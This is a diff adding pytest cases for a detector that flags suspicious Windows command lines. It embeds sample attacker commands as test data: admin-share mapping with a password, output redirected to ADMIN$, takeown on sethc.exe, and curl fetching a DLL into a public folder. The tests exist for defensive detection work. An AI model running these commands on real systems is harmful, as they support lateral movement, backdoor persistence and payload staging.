@@ -140,3 +140,20 @@ def test_discovery_is_weak_alone_and_a_burst_is_evidence() -> None:
 def test_every_heuristic_is_declared_under_this_family_prefix() -> None:
     assert all(h.id.startswith("heur.wincmd.") for h in HEURISTICS)
     assert len({h.id for h in HEURISTICS}) == len(HEURISTICS)
+
+
+@pytest.mark.parametrize(("script", "heuristic"), [
+    ("net use \\\\srv02\\ADMIN$ S3cret! /user:corp\\ops", wincmd("admin_share_credentials")),
+    ("cmd.exe /Q /c ipconfig 1> \\\\10.0.0.5\\ADMIN$\\__out 2>&1", wincmd("output_to_admin_share")),
+    ("takeown /f C:\\Windows\\System32\\sethc.exe", wincmd("system_file_ownership")),
+    ("curl -k https://example.test/x.dll -o c:\\users\\public\\x.dll", wincmd("executable_downloaded_user_folder")),
+])
+def test_lateral_and_staging_lines(script: str, heuristic: str) -> None:
+    assert heuristic in ids(script, CMD)
+
+
+def test_a_share_mapped_without_credentials_or_output_is_weak() -> None:
+    assert score("net use z: \\\\files01\\C$", CMD) < SUSPICIOUS
+    assert wincmd("output_to_admin_share") not in ids("copy report.txt \\\\files01\\C$\\reports\\", CMD)
+    assert wincmd("executable_downloaded_user_folder") not in ids("curl -o build\\tool.zip https://example.test/t.zip",
+                                                                   CMD)
